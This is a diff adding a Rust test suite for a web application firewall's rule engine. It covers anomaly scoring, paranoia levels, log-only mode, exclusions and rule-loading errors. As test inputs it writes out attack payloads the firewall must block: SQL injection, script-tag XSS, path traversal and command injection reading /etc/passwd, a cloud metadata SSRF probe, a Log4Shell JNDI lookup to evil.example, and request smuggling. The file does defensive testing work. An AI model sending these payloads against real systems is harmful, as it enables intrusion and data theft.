@@ -1,0 +1,392 @@
+//! The WAF through the whole engine: rule file → policy → decision. Scoring,
+//! paranoia levels, log-only mode, exclusions, body limits, and the load
+//! errors that keep a broken rule from deploying.
+
+use crate::decision::{Action, Stage};
+use crate::{load, Policy, Request};
+
+const RULES: &str = r#"
+[waf]
+paranoia_level = 1
+anomaly_threshold = 5
+body_limit = 1024
+
+[[waf.rule]]
+id = "t-sqli"
+severity = "critical"
+tags = ["attack-sqli"]
+targets = ["args", "cookies"]
+transforms = ["url_decode_uni", "lowercase"]
+detect = "sqli"
+
+[[waf.rule]]
+id = "t-xss"
+severity = "critical"
+tags = ["attack-xss"]
+targets = ["args", "body"]
+transforms = ["html_entity_decode", "lowercase"]
+regex = '<script\b'
+
+[[waf.rule]]
+id = "t-warn-a"
+severity = "warning"
+targets = ["header:x-a"]
+phrases = ["alpha"]
+
+[[waf.rule]]
+id = "t-warn-b"
+severity = "warning"
+targets = ["header:x-b"]
+phrases = ["beta"]
+
+[[waf.rule]]
+id = "t-pl2"
+severity = "critical"
+paranoia = 2
+targets = ["args"]
+phrases = ["paranoid"]
+
+[[waf.rule]]
+id = "t-log-only"
+severity = "critical"
+mode = "log_only"
+targets = ["args"]
+phrases = ["simulate-me"]
+
+[[waf.rule]]
+id = "t-smuggle"
+severity = "critical"
+anomaly = "conflicting_length"
+
+[[waf.exclusion]]
+id = "cms-html"
+paths = ["/cms/save"]
+tags = ["attack-xss"]
+targets = ["arg:content"]
+
+[[waf.exclusion]]
+id = "legacy-off"
+paths = ["/legacy"]
+rules = ["t-*"]
+"#;
+
+fn policy(text: &str) -> Policy {
+    load(&[("rules/w.toml".into(), text.into())])
+        .unwrap()
+        .policy
+}
+
+fn req(method: &str, url: &str, headers: &[(&str, &str)], body: Option<&str>) -> Request {
+    Request {
+        method: method.into(),
+        url: url.into(),
+        headers: headers
+            .iter()
+            .map(|(n, v)| (n.to_string(), v.to_string()))
+            .collect(),
+        connecting_ip: Some("198.51.100.1".into()),
+        body: body.map(|b| b.as_bytes().to_vec()),
+        ..Default::default()
+    }
+}
+
+#[test]
+fn waf_cases() {
+    let p = policy(RULES);
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    // (request, blocking rule or None)
+    let cases: Vec<(Request, Option<&str>)> = vec![
+        (
+            req("GET", "/?q=1%27%20OR%20%271%27=%271", &[], None),
+            Some("t-sqli"),
+        ),
+        (req("GET", "/?q=O%27Reilly", &[], None), None),
+        (
+            req("GET", "/", &[("cookie", "s=1' or '1'='1")], None),
+            Some("t-sqli"),
+        ),
+        (
+            req("POST", "/c", &form, Some("msg=%26lt;SCRIPT%26gt;x")),
+            Some("t-xss"),
+        ),
+        // One warning scores 3, under the threshold; two reach 6.
+        (req("GET", "/", &[("x-a", "alpha")], None), None),
+        (
+            req("GET", "/", &[("x-a", "alpha"), ("x-b", "beta")], None),
+            Some("t-warn-a"),
+        ),
+        // Paranoia 2 rules are off at level 1.
+        (req("GET", "/?q=paranoid", &[], None), None),
+        // Log-only rules never block.
+        (req("GET", "/?q=simulate-me", &[], None), None),
+        // Anomaly rules look at the request as a whole.
+        (
+            req(
+                "POST",
+                "/",
+                &[("content-length", "3"), ("transfer-encoding", "chunked")],
+                None,
+            ),
+            Some("t-smuggle"),
+        ),
+        // The CMS may post HTML in `content`, and only there.
+        (
+            req("POST", "/cms/save", &form, Some("content=%3Cscript%3Ex")),
+            None,
+        ),
+        (
+            req("POST", "/cms/save", &form, Some("title=%3Cscript%3Ex")),
+            Some("t-xss"),
+        ),
+        (
+            req("POST", "/blog/save", &form, Some("content=%3Cscript%3Ex")),
+            Some("t-xss"),
+        ),
+        // An exclusion by rule-id prefix turns all of them off in a scope.
+        (
+            req("GET", "/legacy/x?q=1%27%20OR%20%271%27=%271", &[], None),
+            None,
+        ),
+    ];
+    let mut failed = Vec::new();
+    for (r, want) in &cases {
+        let d = p.evaluate(r);
+        let got = (d.action == Action::Block).then(|| d.rule.clone().unwrap_or_default());
+        if got.as_deref() != *want || (got.is_some() && d.stage != Stage::Waf) {
+            failed.push(format!(
+                "{} {} {:?}: want {want:?}, got {got:?} ({})",
+                r.method, r.url, r.headers, d.reason
+            ));
+        }
+    }
+    assert!(failed.is_empty(), "{}", failed.join("\n"));
+}
+
+#[test]
+fn matches_under_the_threshold_and_log_only_matches_are_logged() {
+    let p = policy(RULES);
+    let d = p.evaluate(&req("GET", "/?q=simulate-me", &[], None));
+    assert_eq!(d.action, Action::Allow);
+    assert!(d.is_logged());
+    assert!(
+        d.reason.contains("t-log-only") && d.reason.contains("log only"),
+        "{}",
+        d.reason
+    );
+}
+
+#[test]
+fn log_only_mode_blocks_nothing_but_reports_everything() {
+    let p = policy(&RULES.replace(
+        "paranoia_level = 1",
+        "paranoia_level = 1\nmode = \"log_only\"",
+    ));
+    let d = p.evaluate(&req("GET", "/?q=1%27%20OR%20%271%27=%271", &[], None));
+    assert_eq!(d.action, Action::Allow);
+    assert!(d.reason.contains("t-sqli"), "{}", d.reason);
+}
+
+#[test]
+fn paranoia_level_two_turns_on_level_two_rules() {
+    let p = policy(&RULES.replace("paranoia_level = 1", "paranoia_level = 2"));
+    let d = p.evaluate(&req("GET", "/?q=paranoid", &[], None));
+    assert_eq!(d.rule.as_deref(), Some("t-pl2"));
+}
+
+#[test]
+fn bodies_over_the_limit_are_inspected_in_part_or_refused() {
+    let big = format!("a={}&b=%3Cscript%3E", "x".repeat(2000));
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    let prefix = policy(RULES);
+    assert_eq!(
+        prefix.evaluate(&req("POST", "/", &form, Some(&big))).action,
+        Action::Allow
+    );
+    let strict = policy(&RULES.replace(
+        "body_limit = 1024",
+        "body_limit = 1024\non_body_over_limit = \"block\"",
+    ));
+    let d = strict.evaluate(&req("POST", "/", &form, Some(&big)));
+    assert_eq!(d.action, Action::Block);
+    assert_eq!(d.rule.as_deref(), Some("waf.body_limit"));
+}
+
+#[test]
+fn shipped_ruleset_loads_and_blocks_the_classics() {
+    let files: Vec<(String, String)> = ["00-client-ip.toml", "10-ip-acl.toml", "40-waf.toml"]
+        .iter()
+        .map(|f| {
+            let path = format!("{}/../../rules/{f}", env!("CARGO_MANIFEST_DIR"));
+            (format!("rules/{f}"), std::fs::read_to_string(path).unwrap())
+        })
+        .chain(std::iter::once((
+            "rules/lists/blocklist.txt".to_string(),
+            std::fs::read_to_string(format!(
+                "{}/../../rules/lists/blocklist.txt",
+                env!("CARGO_MANIFEST_DIR")
+            ))
+            .unwrap(),
+        )))
+        .collect();
+    let p = load(&files).unwrap().policy;
+    for url in [
+        "/?id=1%20UNION%20SELECT%20password%20FROM%20users",
+        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/?file=../../../../etc/passwd",
+        "/?host=127.0.0.1%3B%20cat%20/etc/passwd",
+        "/?url=http://169.254.169.254/latest/meta-data/",
+        "/?x=${jndi:ldap://evil.example/a}",
+    ] {
+        assert_eq!(
+            p.evaluate(&req("GET", url, &[], None)).action,
+            Action::Block,
+            "{url}"
+        );
+    }
+    for url in [
+        "/search?q=O%27Reilly%20books",
+        "/search?q=select%20the%20best%20option",
+        "/?q=caf%C3%A9%20%E6%9D%B1%E4%BA%AC",
+        "/docs/v1..v2/diff",
+    ] {
+        assert_eq!(
+            p.evaluate(&req("GET", url, &[], None)).action,
+            Action::Allow,
+            "{url}"
+        );
+    }
+}
+
+fn errors(text: &str) -> Vec<(String, String)> {
+    match load(&[("rules/w.toml".into(), text.into())]) {
+        Ok(_) => Vec::new(),
+        Err(e) => e
+            .diagnostics
+            .into_iter()
+            .filter(|d| d.is_error())
+            .map(|d| (d.message, d.help.unwrap_or_default()))
+            .collect(),
+    }
+}
+
+#[test]
+fn broken_waf_rules_do_not_load() {
+    let rule = |body: &str| format!("[[waf.rule]]\nid = \"r\"\nseverity = \"critical\"\n{body}\n");
+    let cases = [
+        (
+            rule("targets = [\"args\"]\nregex = '(unclosed'"),
+            "does not compile",
+            "literal string",
+        ),
+        (
+            rule("targets = [\"args\"]\nregex = 'a*'"),
+            "matches an empty value",
+            "at least one character",
+        ),
+        (
+            rule("targets = [\"args\"]\nregex = '(?=look)ahead'"),
+            "does not compile",
+            "no look-around",
+        ),
+        (
+            rule("targets = [\"args\"]"),
+            "exactly one operator, has 0",
+            "regex",
+        ),
+        (
+            rule("targets = [\"args\"]\nregex = 'x'\nphrases = [\"y\"]"),
+            "exactly one operator, has 2",
+            "detect",
+        ),
+        (
+            rule("targets = [\"argz\"]\nregex = 'x'"),
+            "unknown target `argz`",
+            "did you mean `args`",
+        ),
+        (
+            rule("targets = [\"args\"]\ntransforms = [\"url_decod\"]\nregex = 'x'"),
+            "unknown transformation",
+            "did you mean `url_decode`",
+        ),
+        (
+            rule("targets = [\"args\"]\ndetect = \"sql\""),
+            "unknown detector",
+            "sqli",
+        ),
+        (rule("anomaly = \"nul\""), "unknown anomaly", "nul_byte"),
+        (
+            rule("anomaly = \"nul_byte\"\ntargets = [\"args\"]"),
+            "takes no `targets`",
+            "remove",
+        ),
+        (rule("regex = 'x'"), "has no `targets`", "args"),
+        (
+            rule("targets = [\"args\"]\nphrases = [\"\"]"),
+            "empty phrase",
+            "non-empty",
+        ),
+        (
+            rule("targets = [\"args\"]\nregex = 'x'\nparanoia = 5"),
+            "out of range",
+            "1 to 4",
+        ),
+        (
+            "[[waf.rule]]\nid = \"r\"\nseverity = \"fatal\"\ntargets = [\"args\"]\nregex = 'x'\n"
+                .into(),
+            "unknown severity",
+            "critical",
+        ),
+        (
+            "[waf]\nparanoia_level = 7\n".into(),
+            "out of range",
+            "1 to 4",
+        ),
+        (
+            "[waf]\nbody_limit = 99999999\n".into(),
+            "out of range",
+            "memory",
+        ),
+        (
+            "[waf]\nmode = \"monitor\"\n".into(),
+            "unknown `mode`",
+            "log_only",
+        ),
+        (
+            "[waf]\nthreshold = 5\n".into(),
+            "unknown key `threshold`",
+            "anomaly_threshold",
+        ),
+        (
+            format!(
+                "{}[[waf.exclusion]]\nid = \"e\"\nrules = [\"s\"]\n",
+                rule("targets = [\"args\"]\nregex = 'x'")
+            ),
+            "names no existing rule",
+            "did you mean `r`",
+        ),
+        (
+            format!(
+                "{}[[waf.exclusion]]\nid = \"e\"\ntags = [\"nope\"]\n",
+                rule("targets = [\"args\"]\nregex = 'x'")
+            ),
+            "no WAF rule has the tag",
+            "tag",
+        ),
+        (
+            format!(
+                "{}[[waf.exclusion]]\nid = \"e\"\n",
+                rule("targets = [\"args\"]\nregex = 'x'")
+            ),
+            "names no rule",
+            "rules = ",
+        ),
+    ];
+    for (text, msg, help) in cases {
+        let errs = errors(&text);
+        assert!(
+            errs.iter()
+                .any(|(m, h)| m.contains(msg) && h.contains(help)),
+            "{text}\n  want {msg:?} / {help:?}\n  got {errs:?}"
+        );
+    }
+}
